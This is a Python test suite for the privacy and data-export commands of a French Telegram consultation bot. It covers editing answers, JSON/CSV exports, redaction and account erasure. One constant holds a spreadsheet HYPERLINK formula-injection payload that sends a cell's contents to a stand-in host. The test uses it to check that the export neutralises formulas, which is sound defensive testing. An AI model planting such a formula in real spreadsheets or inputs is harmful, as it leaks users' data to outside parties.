"""/mescontributions, /mesdonnees, /oubli, /confidentialite through the production dispatcher."""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta

from aiogram.utils.i18n import gettext
from sqlalchemy import update

from bot.i18n import use_locale
from bot.keyboards.callbacks import AnswerAction, AnswerCB, ForgetCB, MineAction, MineCB
from bot.services.profile import PRIVACY_VERSION
from storage.models import (
    SCRUBBED_FULLY,
    Answer,
    AuditEntry,
    Broadcast,
    Contribution,
    DigestRun,
    DigestSubscription,
    Invitation,
    JobFailure,
    Meeting,
    OutboxFile,
    OutboxMessage,
    User,
)
from tests.handlers.conftest import onboard
from tests.handlers.test_contribute import EXPIRED, answer_theme_one, current
from tests.helpers import alerts, button_labels, documents, joined, texts
from tests.seed import Person, add_contribution, add_people, entry_answers


async def submitted_contribution(member, db) -> Contribution:
    contribution = await answer_theme_one(member, db)
    await member.click("Envoyer ma contribution")
    return contribution


async def test_my_contributions_lists_and_shows_one_when_submitted(member, db) -> None:
    contribution = await submitted_contribution(member, db)
    sent = await member.send("/mescontributions")
    assert len(button_labels(sent)) == 1
    assert "Repérage" in button_labels(sent)[0]

    sent = await member.click_data(
        MineCB(contribution_id=contribution.id, action=MineAction.VIEW).pack()
    )
    assert contribution.public_id in joined(sent)
    assert "Un référent mobilité partagé" in joined(sent)


async def test_editing_a_submitted_answer_keeps_the_previous_version(member, db) -> None:
    contribution = await submitted_contribution(member, db)
    await member.click_data(
        MineCB(contribution_id=contribution.id, action=MineAction.PICK_QUESTION).pack()
    )
    sent = await member.click_data(
        MineCB(
            contribution_id=contribution.id, action=MineAction.CHANGE, question="entry_barriers"
        ).pack()
    )
    assert "Les horaires des transports" in joined(sent)  # the current answer is shown
    sent = await member.send("Nouvelle réponse, plus précise.")

    assert "Nouvelle réponse, plus précise." in joined(sent)
    history = [
        (a.revision, a.is_current, a.text_value)
        for a in await db.answers(contribution.id, current_only=False)
        if a.question_key == "entry_barriers"
    ]
    assert history == [
        (1, False, "Les horaires des transports ne collent pas aux missions."),
        (2, True, "Nouvelle réponse, plus précise."),
    ]
    assert (await current(db)).status == "submitted"


async def test_cancelling_an_edit_changes_nothing_when_cancel_is_tapped(member, db) -> None:
    contribution = await submitted_contribution(member, db)
    await member.click_data(
        MineCB(
            contribution_id=contribution.id, action=MineAction.CHANGE, question="entry_outreach"
        ).pack()
    )
    sent = await member.click_data(
        AnswerCB(
            contribution_id=contribution.id, question="entry_outreach", action=AnswerAction.PAUSE
        ).pack()
    )

    assert contribution.public_id in joined(sent)
    answers = await db.answers(contribution.id, current_only=False)
    assert len(answers) == 5
    sent = await member.send("un texte après l'annulation")
    assert len(await db.answers(contribution.id, current_only=False)) == 5


async def test_withdrawn_contribution_is_marked_and_cannot_be_edited(member, db) -> None:
    contribution = await submitted_contribution(member, db)
    sent = await member.click_data(
        MineCB(contribution_id=contribution.id, action=MineAction.ASK_WITHDRAW).pack()
    )
    assert len(button_labels(sent)) == 2
    sent = await member.click_data(
        MineCB(contribution_id=contribution.id, action=MineAction.WITHDRAW).pack()
    )
    assert "retirée" in joined(sent)

    assert (await current(db)).status == "withdrawn"
    assert (await current(db)).withdrawn_at is not None
    sent = await member.click_data(
        MineCB(
            contribution_id=contribution.id, action=MineAction.CHANGE, question="entry_barriers"
        ).pack()
    )
    assert EXPIRED in alerts(sent)[0]
    sent = await member.send("/mescontributions")
    assert "(retirée)" in button_labels(sent)[0]


def fr(message: str) -> str:
    """What gettext gives a French reader for one of Relais's own words (whether each word is
    translated is tests/unit/test_catalogs.py's business)."""
    with use_locale("fr"):
        return gettext(message)


CSV_HEADERS = (
    "Contribution",
    "Theme",
    "Status",
    "Question",
    "Version",
    "Current",
    "Date",
    "Answer",
)
ADMIN = 9001  # in ADMIN_IDS (tests/conftest.py)
OTHER_ADMIN = 9002
SOMEONE = 3003


def mentions_id(raw: str, user_id: int) -> bool:
    """Whether the export names this id as a whole number (not inside a timestamp's digits)."""
    return re.search(rf"(?<![\d.]){user_id}(?![\d])", raw) is not None


AT = datetime(2025, 3, 5, 9, 30, tzinfo=UTC)  # 10:30 in Paris
FORMULA = '=HYPERLINK("https://exemple.org/?d="&A1;"Cliquez")'


async def export(person) -> tuple[dict, bytes, str]:
    """(JSON document, CSV bytes, JSON text) of what /mesdonnees sends."""
    files = documents(await person.send("/mesdonnees"))
    assert [f.document.filename for f in files] == [
        "relais-mes-donnees.json",
        "relais-mes-reponses.csv",
    ]
    raw_json = files[0].document.data.decode("utf-8")
    return json.loads(raw_json), files[1].document.data, raw_json


def csv_rows(data: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


async def seed_admin_traces(app) -> None:
    """An organiser who is also an admin (ADMIN_IDS), with a row in every table about them."""
    async with app.session_factory() as session:
        await add_people(
            session, [Person(ADMIN, organiser=True), Person(OTHER_ADMIN), Person(SOMEONE)]
        )
        (await session.get(User, ADMIN)).reminders_muted = True
        contribution = await add_contribution(session, ADMIN, "entry", AT, entry_answers())
        # entry_barriers edited once (the phone number masked for organisers), then skipped.
        await session.execute(
            update(Answer)
            .where(
                Answer.contribution_id == contribution.id, Answer.question_key == "entry_barriers"
            )
            .values(is_current=False)
        )
        session.add(
            Answer(
                contribution_id=contribution.id,
                question_key="entry_barriers",
                questionnaire_version=1,
                revision=2,
                is_current=False,
                skipped=False,
                text_value="Appelez-moi au 06 12 34 56 78",
                scrubbed_text="Appelez-moi au [téléphone]",
                scrubbed_with=SCRUBBED_FULLY,
                pii_kinds=["phone"],
                created_at=AT + timedelta(hours=1),
            )
        )
        session.add(
            Answer(
                contribution_id=contribution.id,
                question_key="entry_barriers",
                questionnaire_version=1,
                revision=3,
                is_current=True,
                skipped=True,
                created_at=AT + timedelta(hours=2),
            )
        )
        session.add(
            DigestSubscription(
                user_id=ADMIN, frequency="weekly", hour=7, minute=30, themes=["entry"], regions=[]
            )
        )
        session.add(
            DigestRun(
                user_id=ADMIN,
                period_start=AT - timedelta(days=7),
                period_end=AT,
                claimed_by="test",
                created_at=AT,
                contributions=4,
                themes=["entry"],
                regions=["84"],
                trigger="on_demand",
            )
        )
        attachment = OutboxFile(filename="synthese.xlsx", content=b"PK", created_at=AT)
        session.add(attachment)
        await session.flush()

        def message(recipient: int, kind: str, payload: dict, **values) -> OutboxMessage:
            return OutboxMessage(
                recipient_id=recipient,
                kind=kind,
                payload=payload,
                due_at=AT,
                created_at=AT,
                **values,
            )

        session.add_all(
            [
                message(
                    ADMIN,
                    "reminder",
                    {"method": "message", "text": "📅 Réunion à Grenoble dans 7 jours"},
                    status="sent",
                    sent_at=AT + timedelta(minutes=1),
                ),
                message(ADMIN, "digest", {"method": "removed"}, status="sent", sent_at=AT),
                message(
                    ADMIN,
                    "digest",
                    {"method": "document", "caption": None},
                    status="pending",
                    file_id=attachment.id,
                ),
                message(
                    SOMEONE, "broadcast", {"method": "message", "text": "Pour quelqu'un d'autre"}
                ),
            ]
        )
        session.add_all(
            [
                AuditEntry(
                    at=AT,
                    actor_id=OTHER_ADMIN,
                    action="organiser_added",
                    subject_id=ADMIN,
                    details={"via": "grant"},
                ),
                AuditEntry(
                    at=AT + timedelta(hours=1),
                    actor_id=ADMIN,
                    action="invitation_created",
                    details={"expires_at": (AT + timedelta(hours=73)).isoformat()},
                ),
                AuditEntry(
                    at=AT, actor_id=OTHER_ADMIN, action="organiser_revoked", subject_id=SOMEONE
                ),
            ]
        )
        session.add_all(
            [
                Invitation(
                    token_hash="a" * 64,
                    created_by=ADMIN,
                    created_at=AT + timedelta(hours=1),
                    expires_at=AT + timedelta(hours=73),
                    used_at=AT + timedelta(hours=2),
                    used_by=SOMEONE,
                ),
                Invitation(
                    token_hash="b" * 64,
                    created_by=OTHER_ADMIN,
                    created_at=AT - timedelta(days=1),
                    expires_at=AT + timedelta(days=2),
                    used_at=AT - timedelta(hours=1),
                    used_by=ADMIN,
                ),
                Invitation(  # neither created nor used by them
                    token_hash="c" * 64,
                    created_by=OTHER_ADMIN,
                    created_at=AT,
                    expires_at=AT + timedelta(days=3),
                ),
            ]
        )
        session.add(
            Meeting(
                starts_at=AT + timedelta(days=30),
                city="Grenoble",
                regions=["84"],
                theme_key="entry",
                venue="Maison des associations",
                status="scheduled",
                created_by=ADMIN,
            )
        )
        session.add(
            Broadcast(
                created_by=ADMIN,
                status="done",
                body="<b>Rappel</b> : la consultation ferme vendredi.",
                audience={"regions": ["84"], "departments": ["38"], "roles": ["cip"]},
                due_at=AT,
                started_at=AT,
                finished_at=AT + timedelta(minutes=5),
                recipients=12,
            )
        )
        session.add(
            JobFailure(
                job="digest",
                key=f"{ADMIN}:{AT.isoformat()}",
                attempts=2,
                last_error="TimeoutError()",
                created_at=AT,
                updated_at=AT,
            )
        )
        await session.commit()


async def test_data_export_json_holds_every_section_with_labels_when_an_admin_asks(app) -> None:
    await seed_admin_traces(app)
    data, _csv, raw = await export(app.person(user_id=ADMIN))

    assert list(data) == [
        "about",
        "profile",
        "roles",
        "contributions",
        "digest_subscription",
        "digest_runs",
        "messages_received",
        "audit_log",
        "invitations",
        "meetings_created",
        "broadcasts_created",
        "job_failures",
    ]
    assert data["about"]["language"] == "fr"
    assert data["about"]["fields"]["scrubbed_text"] == fr(
        "What organisers read: your text with personal details masked."
    )
    profile = data["profile"]
    assert profile["telegram_user_id"] == ADMIN
    assert profile["consented_at"] == "2025-01-01T00:00:00+00:00"
    assert profile["last_seen_at"] is not None  # this very message
    assert (profile["is_organiser"], profile["is_admin"], profile["reminders_muted"]) == (
        True,
        False,
        True,
    )
    assert profile["privacy_version"] == PRIVACY_VERSION
    assert profile["voice_choice"] == "keep"
    assert profile["voice_choice_label"] == fr("kept: organisers may hear your voice notes")
    assert profile["structure_type_label"] == "Association intermédiaire (AI)"
    assert profile["role_label"] == "Chargé·e d'insertion professionnelle (CIP)"
    assert profile["department_label"] == "Isère (38)"
    assert profile["region_label"] == "Auvergne-Rhône-Alpes"
    assert profile["language_label"] == "Français"
    # Admin through ADMIN_IDS, not the is_admin column: still listed.
    assert data["roles"] == [
        {"key": "organiser", "label": fr("Organiser")},
        {"key": "admin", "label": fr("Administrator")},
    ]

    (contribution,) = data["contributions"]
    assert contribution["theme"] == "entry"
    assert contribution["theme_label"] == "1. Repérage, entrée en IAE et levée des freins"
    assert (contribution["status"], contribution["status_label"]) == ("submitted", fr("submitted"))
    answers = contribution["answers"]
    assert [(a["question_key"], a["revision"]) for a in answers] == [
        ("entry_barriers", 1),
        ("entry_barriers", 2),
        ("entry_barriers", 3),
        ("entry_top_barriers", 1),
        ("entry_prescription", 1),
        ("entry_outreach", 1),
        ("entry_proposal", 1),
    ]
    barriers = answers[1]
    assert barriers["question_label"].startswith("Aujourd'hui, qu'est-ce qui empêche")
    assert barriers["text"] == "Appelez-moi au 06 12 34 56 78"
    assert barriers["scrubbed_text"] == "Appelez-moi au [téléphone]"
    assert barriers["pii_kinds"] == [{"key": "phone", "label": "un numéro de téléphone"}]
    assert barriers["created_at"] == "2025-03-05T10:30:00+00:00"
    assert answers[2]["skipped"] is True and answers[2]["answer_label"] == "(passée)"
    assert answers[3]["choices"] == [
        {"key": "mobility", "label": "Mobilité"},
        {"key": "housing", "label": "Logement"},
    ]
    assert answers[3]["answer_label"] == "Mobilité, Logement"
    assert (answers[4]["scale"], answers[4]["scale_label"]) == (3, "3 / 5")

    subscription = data["digest_subscription"]
    assert subscription["frequency_label"] == "chaque lundi à 7\u00a0h\u00a030"
    assert subscription["themes"] == [
        {"key": "entry", "label": "1. Repérage, entrée en IAE et levée des freins"}
    ]
    assert subscription["regions"] == [] and subscription["regions_label"] == fr("every region")
    (run,) = data["digest_runs"]
    assert run["period_end"] == "2025-03-05T09:30:00+00:00"
    assert (run["trigger"], run["trigger_label"]) == ("on_demand", fr("on request"))
    assert run["regions"] == [{"code": "84", "label": "Auvergne-Rhône-Alpes"}]
    assert run["period_label"].startswith("du ")

    reminder, delivered, pending = data["messages_received"]  # not the one to someone else
    assert (reminder["kind"], reminder["kind_label"]) == ("reminder", fr("Meeting reminder"))
    assert (reminder["status"], reminder["status_label"]) == ("sent", fr("delivered"))
    assert reminder["text"] == "📅 Réunion à Grenoble dans 7 jours"
    assert reminder["sent_at"] == "2025-03-05T09:31:00+00:00"
    assert delivered["text"] is None and delivered["content_removed"] is True
    assert pending["attachment"] == "synthese.xlsx" and pending["sent_at"] is None
    assert pending["status_label"] == fr("waiting to be sent")

    granted, invited = data["audit_log"]  # not the row about someone else
    assert granted["action"] == "organiser_added"
    assert granted["action_label"] == fr("Became an organiser")
    assert (granted["actor"], granted["about_you"]) == ("someone_else", True)
    assert granted["actor_label"] == fr("an administrator")
    assert granted["details"] == {"via": "grant"}
    assert (invited["action"], invited["actor"], invited["about_you"]) == (
        "invitation_created",
        "you",
        False,
    )

    created, used = sorted(data["invitations"], key=lambda i: not i["created_by_you"])
    assert (created["created_by_you"], created["used_by_you"]) == (True, False)
    assert (created["status"], created["status_label"]) == ("used", fr("used"))
    assert (used["created_by_you"], used["used_by_you"]) == (False, True)
    assert len(data["invitations"]) == 2

    (meeting,) = data["meetings_created"]
    assert (meeting["city"], meeting["venue"]) == ("Grenoble", "Maison des associations")
    assert meeting["regions"] == [{"code": "84", "label": "Auvergne-Rhône-Alpes"}]
    assert meeting["theme_label"] == "1. Repérage, entrée en IAE et levée des freins"
    assert (meeting["status"], meeting["status_label"]) == ("scheduled", fr("scheduled"))
    assert meeting["starts_at"] == "2025-04-04T09:30:00+00:00"

    (broadcast,) = data["broadcasts_created"]
    assert broadcast["body"] == "<b>Rappel</b> : la consultation ferme vendredi."
    assert (broadcast["status"], broadcast["status_label"]) == ("done", fr("finished"))
    assert broadcast["audience"]["departments"] == [{"code": "38", "label": "Isère (38)"}]
    assert broadcast["audience"]["roles"] == [
        {"key": "cip", "label": "Chargé·e d'insertion professionnelle (CIP)"}
    ]
    assert broadcast["audience"]["everyone"] is False
    assert (broadcast["recipients"], broadcast["finished_at"]) == (
        12,
        "2025-03-05T09:35:00+00:00",
    )

    (failure,) = data["job_failures"]
    assert (failure["job"], failure["attempts"], failure["gave_up"]) == ("digest", 2, False)

    # Other people are described, never identified; invitation tokens stay secret.
    assert not mentions_id(raw, OTHER_ADMIN) and not mentions_id(raw, SOMEONE)
    assert "token_hash" not in raw and "a" * 64 not in raw
    assert "Pour quelqu'un d'autre" not in raw


async def test_audit_rows_about_a_meeting_are_left_out_when_its_id_is_a_persons(
    app, member
) -> None:
    async with app.session_factory() as session:
        session.add(
            Meeting(
                id=member.user_id,
                starts_at=AT,
                city="Lyon",
                regions=[],
                status="scheduled",
                created_by=ADMIN,
            )
        )
        session.add_all(
            [
                AuditEntry(
                    at=AT, actor_id=ADMIN, action="meeting_added", subject_id=member.user_id
                ),
                AuditEntry(
                    at=AT, actor_id=ADMIN, action="organiser_added", subject_id=member.user_id
                ),
            ]
        )
        await session.commit()
    data, _csv, raw = await export(member)

    assert [(e["action"], e["actor"]) for e in data["audit_log"]] == [
        ("organiser_added", "someone_else")
    ]
    assert data["meetings_created"] == [] and data["digest_subscription"] is None
    assert data["roles"] == [{"key": "member", "label": fr("Contributor")}]
    assert not mentions_id(raw, ADMIN)


async def test_data_export_csv_is_readable_with_semicolons_when_the_person_is_french(
    member, db
) -> None:
    contribution = await submitted_contribution(member, db)
    data, csv_bytes, _raw = await export(member)

    assert data["profile"]["structure_name"] == "AI du Grésivaudan"
    assert data["contributions"][0]["reference"] == contribution.public_id
    assert len(data["contributions"][0]["answers"]) == 5
    assert csv_bytes.startswith(codecs.BOM_UTF8)  # French Excel reads it as UTF-8
    text = csv_bytes.decode("utf-8-sig")
    header, *rows = csv_rows(csv_bytes, ";")
    assert header == [fr(h) for h in CSV_HEADERS]
    assert header[1] == "Thème"
    assert len(rows) == 5 and all(len(row) == 8 for row in rows)
    by_question = {row[3].split(". ", 1)[0]: row for row in rows}
    assert by_question["2"][3].startswith("2. Parmi ces freins")
    assert by_question["2"][7] == "Mobilité, Logement"
    assert by_question["3"][7] == "2 / 5"
    assert by_question["4"][7] == "Orientation par France Travail"
    first = by_question["1"]
    assert first[:3] == [
        contribution.public_id,
        "1. Repérage, entrée en IAE et levée des freins",
        fr("submitted"),
    ]
    assert (first[4], first[5]) == ("1", fr("Yes"))
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", first[6])
    for key in ("entry_top_barriers", "mobility|housing", "mobility", "True", "False"):
        assert key not in text


async def test_data_export_csv_uses_commas_and_english_labels_when_the_person_is_english(
    app,
) -> None:
    person = app.person(user_id=1002, language_code="en")
    await onboard(person, language="en")
    async with app.session_factory() as session:
        await add_contribution(session, 1002, "entry", AT, entry_answers(voice=True))
        await session.commit()
    _data, csv_bytes, _raw = await export(person)

    header, *rows = csv_rows(csv_bytes, ",")
    assert csv_bytes.decode("utf-8-sig").splitlines()[0] == ",".join(CSV_HEADERS)
    assert header == list(CSV_HEADERS)
    assert len(rows) == 5 and all(len(row) == 8 for row in rows)
    answers = {row[3].split(". ", 1)[0]: row[7] for row in rows}
    assert answers == {
        "1": "voice note (30 s)",
        "2": "Mobility, Housing",
        "3": "3 / 5",
        "4": "Referral by France Travail",
        "5": "Un référent mobilité partagé",
    }
    assert rows[0][1] == "1. Outreach, entry into IAE and removing barriers"
    assert rows[0][2:3] == ["submitted"] and rows[0][5] == "Yes"
    assert rows[0][6] == "2025-03-05 10:30"  # TIMEZONE (Europe/Paris), to the minute


async def test_data_export_csv_defuses_a_formula_when_one_is_typed_as_an_answer(member, db) -> None:
    contribution = await submitted_contribution(member, db)
    await member.click_data(
        MineCB(contribution_id=contribution.id, action=MineAction.PICK_QUESTION).pack()
    )
    await member.click_data(
        MineCB(
            contribution_id=contribution.id, action=MineAction.CHANGE, question="entry_barriers"
        ).pack()
    )
    await member.send(FORMULA)
    data, csv_bytes, _raw = await export(member)

    _header, *rows = csv_rows(csv_bytes, ";")
    barriers = [row for row in rows if row[3].startswith("1. ")]
    assert [(row[4], row[5], row[7]) for row in barriers] == [
        ("1", fr("No"), "Les horaires des transports ne collent pas aux missions."),
        ("2", fr("Yes"), "'" + FORMULA),
    ]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    # The JSON is for machines: the text as typed.
    texts_stored = [a["text"] for a in data["contributions"][0]["answers"]]
    assert FORMULA in texts_stored


async def test_forget_erases_every_row_when_confirmed(app, member, db) -> None:
    await submitted_contribution(member, db)
    other = app.person(user_id=3003)
    await onboard(other)
    sent = await member.send("/oubli")
    assert len(button_labels(sent)) == 2
    sent = await member.click_data(ForgetCB(confirm=True).pack())

    assert "/start" in joined(sent)
    assert await db.user(member.user_id) is None
    assert await db.contributions(member.user_id) == []
    assert await db.count(Answer) == 0
    assert await db.user(3003) is not None  # only that person is erased
    assert await db.count(User) == 1


async def test_forget_keeps_everything_when_cancelled(member, db) -> None:
    await submitted_contribution(member, db)
    await member.send("/oubli")
    await member.click_data(ForgetCB(confirm=False).pack())

    assert await db.user() is not None
    assert await db.count(Answer) == 5


async def test_privacy_notice_is_shown_again_when_asked(member) -> None:
    sent = await member.send("/confidentialite")
    assert len(texts(sent)) == 1 and "/oubli" in texts(sent)[0]


async def test_reminders_are_muted_then_back_on_when_their_buttons_are_tapped(member, db) -> None:
    sent = await member.send("/rappels")  # shows the state; changes nothing
    assert "activés" in joined(sent) and (await db.user()).reminders_muted is False
    await member.click("Désactivés")
    assert (await db.user()).reminders_muted is True
    await member.click("Activés")
    assert (await db.user()).reminders_muted is False
